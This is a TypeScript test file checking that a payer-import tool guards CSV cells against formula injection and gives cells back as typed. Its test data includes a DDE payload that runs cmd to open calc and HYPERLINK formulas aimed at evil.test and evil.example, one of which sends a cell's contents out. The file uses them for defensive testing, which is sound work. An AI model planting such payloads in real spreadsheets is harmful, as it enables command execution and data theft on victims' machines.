import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvSafe, csvUnguard } from '../../src/core/formulaGuard.js';
import { harness, PAYER_HEADER, payerRow } from '../helpers/runHarness.js';

let h: Awaited<ReturnType<typeof harness>>;
beforeEach(async () => {
  h = await harness();
});
afterEach(async () => {
  await h.close();
});

const CALC = "-2+3+cmd|' /C calc'!A0";
const LINK = '+1+HYPERLINK("http://evil.test","x")';

describe('formula injection: what a spreadsheet would run is written as text', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['+x', "'+x"],
    ['-x', "'-x"],
    ['-', "'-"],
    // A sign then anything but a number or a phone number: a formula that calls something.
    [CALC, `'${CALC}`],
    [LINK, `'${LINK}`],
    ['-1e3', "'-1e3"],
    ['+', "'+"],
    ['+12175550100', '+12175550100'],
    ['-5', '-5'],
    ['-1.5', '-1.5'],
    ['+1 (217) 555-0100', '+1 (217) 555-0100'],
    ['plain', 'plain'],
    ["'=already", "''=already"],
    [`'${CALC}`, `''${CALC}`],
    ["'-5", "'-5"],
  ])('%j is written %j and read back as it was', (value, written) => {
    expect(csvSafe(value)).toBe(written);
    expect(csvUnguard(csvSafe(value))).toBe(value);
  });

  it("every cell of results.csv is guarded, the input's clientUserId included, and so is the failed file's", async () => {
    const evil = "=cmd|' /C calc'!A0";
    const input = h.tmp.write(
      '=payers.csv',
      `${PAYER_HEADER}\n${payerRow(evil, { email: 'nope' })}\n${payerRow('-x')}\n${payerRow('p-1')}\n` +
        `${payerRow(CALC)}\n${payerRow(LINK)}\n${payerRow('-5')}\n`,
    );
    const { summary } = await h.run({ inputs: [input], command: 'validate' });
    const rows = parse(readFileSync(summary.outputs.results, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.source, r.clientUserId])).toEqual([
      ["'=payers.csv", `'${evil}`],
      ["'=payers.csv", "'-x"],
      ["'=payers.csv", 'p-1'],
      ["'=payers.csv", `'${CALC}`],
      ["'=payers.csv", `'${LINK}`],
      ["'=payers.csv", '-5'],
    ]);
    const failed = parse(readFileSync(summary.outputs.failed[0]!, 'utf8'), { columns: true, bom: true }) as Record<
      string,
      string
    >[];
    expect(failed[0]!.clientUserId).toBe(`'${evil}`);
  });
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Details")';
const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
const rowsOf = (path: string) =>
  parse(readFileSync(path, 'utf8'), { columns: true, bom: true }) as Array<Record<string, string>>;

describe('formula injection: the failed file guards the input cells, and gives them back as they were', () => {
  it('guards a formula cell (header too) once, however often the file is fed back, and sends the cell as typed', async () => {
    // An unknown column under a formula-like name, addressLine2 as a formula, and a cell a person typed with a `'`.
    const header = `${PAYER_HEADER},addressLine2,=Notes`;
    const input = h.tmp.write(
      'payers.csv',
      `${header}\n${payerRow('i-1', { email: 'nope' })},${quoted(HYPERLINK)},@SUM(A1:A2)\n` +
        `${payerRow('i-2', { email: 'nope' })},'=typed,-5\n`,
    );
    const first = await h.run({ inputs: [input], command: 'validate' });
    const failedPath = first.summary.outputs.failed[0]!;
    const failed = rowsOf(failedPath);
    expect(failed.map((r) => [r.clientUserId, r.addressLine2, r["'=Notes"], r.phone])).toEqual([
      ['i-1', `'${HYPERLINK}`, "'@SUM(A1:A2)", '+12175550100'],
      ['i-2', "''=typed", '-5', '+12175550100'],
    ]);

    // Fed back as it is, it fails the same way and is written the same: each guard once (`'=`, never `''=`).
    const again = await h.run({ inputs: [failedPath], command: 'validate' });
    expect(readFileSync(again.summary.outputs.failed[0]!, 'utf8')).toBe(readFileSync(failedPath, 'utf8'));

    // Fixed by a person and run: the service gets the cells the original input had.
    const fixed = h.tmp.write(
      'failed-payers.csv',
      readFileSync(failedPath, 'utf8').replaceAll(',nope,', ',ok@example.com,'),
    );
    const run = await h.run({ inputs: [fixed] });
    expect(run.results.map((r) => [r.source, r.line, r.outcome])).toEqual([
      ['payers.csv', '2', 'ok'],
      ['payers.csv', '3', 'ok'],
    ]);
    expect(h.sandbox.payer('i-1')!.request).toMatchObject({ addressLine2: HYPERLINK, phone: '+12175550100' });
    expect(h.sandbox.payer('i-1')!.paymentDetails[0]!.request).toMatchObject({ addressLine2: HYPERLINK });
    expect(h.sandbox.payer('i-2')!.request).toMatchObject({ addressLine2: "'=typed" });
  });

  it('guards a signed formula in the failed file, and a phone number not; given back, both reach the service as typed', async () => {
    const input = h.tmp.write(
      'payers.csv',
      `${PAYER_HEADER},addressLine2,companyName\n` +
        `${payerRow('s-1', { email: 'nope' })},${quoted(CALC)},${quoted(LINK)}\n` +
        `${payerRow('s-2', { email: 'nope' })},+1 (217) 555-0100,-5\n`,
    );
    const first = await h.run({ inputs: [input], command: 'validate' });
    const failedPath = first.summary.outputs.failed[0]!;
    expect(rowsOf(failedPath).map((r) => [r.addressLine2, r.companyName])).toEqual([
      [`'${CALC}`, `'${LINK}`],
      ['+1 (217) 555-0100', '-5'],
    ]);
    const fixed = h.tmp.write(
      'failed-payers.csv',
      readFileSync(failedPath, 'utf8').replaceAll(',nope,', ',ok@example.com,'),
    );
    const run = await h.run({ inputs: [fixed] });
    expect(run.results.map((r) => r.outcome)).toEqual(['ok', 'ok']);
    expect(h.sandbox.payer('s-1')!.request).toMatchObject({ addressLine2: CALC, companyName: LINK });
    expect(h.sandbox.payer('s-2')!.request).toMatchObject({ addressLine2: '+1 (217) 555-0100', companyName: '-5' });
  });

  it("leaves a person's own file as typed: a cell starting with ' is sent with it", async () => {
    // An `error` column of their own is not enough to make it one of ours: a failed file has completedSteps too.
    const input = h.tmp.write('payers.csv', `${PAYER_HEADER},addressLine2,error\n${payerRow('o-1')},'=1+1,'@note\n`);
    const { results } = await h.run({ inputs: [input] });
    expect(results.map((r) => r.outcome)).toEqual(['ok']);
    expect(h.sandbox.payer('o-1')!.request).toMatchObject({ addressLine2: "'=1+1" });
  });
});
